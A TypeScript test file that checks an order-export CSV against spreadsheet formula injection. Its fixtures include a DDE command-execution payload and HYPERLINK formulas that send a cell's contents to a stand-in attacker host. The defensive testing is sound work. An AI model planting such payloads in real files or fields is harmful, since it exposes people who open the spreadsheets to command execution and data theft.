/**
 * The CSV export with formula payloads in every field the upstream or a person can fill: read with a
 * comma, a semicolon or a tab as the separator (as spreadsheets in different locales do), no cell
 * starts a formula.
 */
import { randomUUID } from "node:crypto";
import Papa from "papaparse";
import { afterAll, beforeAll, expect, it } from "vitest";
import { createTestDb, describeEachDb, type TestDb } from "@/lib/test/db";
import { insertBatchRow, insertUser } from "@/lib/test/engine-fixtures";
import { exportOrders } from "./export";
import { orderFilterSchema } from "./schemas";

const TRIGGER = /^[=+\-@\t\r\0]/;
const CODE = [
  "Model: +1+1",
  "Carrier: -2+3;=cmd|' /C calc'!A0",
  "IMEI2: @SUM(1+1)",
  'FMI: ON,"=HYPERLINK(""http://evil.example"")',
  "SimLock: Locked\t=1+1",
].join("<br>");

/** The cells a spreadsheet splitting on `separator` would see, ignoring our quotes mid-row. */
function naiveCells(csv: string, separator: string): string[] {
  return csv
    .split(/\r\n|\r|\n/)
    .flatMap((line) => line.split(separator).map((cell) => cell.replace(/^"+/, "")));
}

describeEachDb("CSV export against formula injection", (provider) => {
  let db: TestDb;
  let csv = "";

  beforeAll(async () => {
    db = await createTestDb(provider);
    const user = await insertUser(db, "csv@shop.test", "operator");
    await db.write((p) =>
      p.service.create({
        data: {
          id: "666",
          title: '=HYPERLINK("http://evil.example/?"&A1,"open")',
          category: "@risk",
          priceMicros: 80_000n,
          deliveryTime: "Instant",
          refreshedAt: new Date(),
        },
      }),
    );
    const batch = await insertBatchRow(db, { ownerId: user.id, serviceId: "666", state: "done", size: 1 });
    await db.write((p) =>
      p.order.createMany({
        data: [
          {
            id: randomUUID(),
            batchId: batch.id,
            serviceId: "666",
            ownerId: user.id,
            imei: "353979106673005",
            line: 1,
            state: "completed",
            upstreamStatus: "\t=1+1",
            upstreamOrderId: "\r=2+2",
            code: CODE,
            priceMicros: 80_000n,
            placedAt: new Date(),
          },
        ],
      }),
    );
    const rows = await exportOrders(db, user, orderFilterSchema.parse({}), {});
    for await (const chunk of rows) csv += chunk;
  });

  afterAll(async () => {
    await db?.drop();
  });

  it("quotes and neutralises the payloads, reading back as one row of 13 cells", () => {
    const rows = Papa.parse<string[]>(csv.trim(), { delimiter: "," }).data;
    expect(rows).toHaveLength(2);
    const row = rows[1]!;
    expect(row).toHaveLength(13);
    expect(row[0]).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"open")`);
    expect(row[3]).toBe("'\t'=1+1");
    expect(row[11]).toBe("'\r'=2+2");
    for (const cell of row) expect(cell, JSON.stringify(cell)).not.toMatch(TRIGGER);
  });

  it("starts no formula for a spreadsheet that splits on a comma, a semicolon or a tab", () => {
    const commaCells = Papa.parse<string[]>(csv.trim(), { delimiter: "," }).data.flat();
    for (const cell of [...commaCells, ...naiveCells(csv, ";"), ...naiveCells(csv, "\t")])
      expect(cell, JSON.stringify(cell)).not.toMatch(TRIGGER);
  });
});
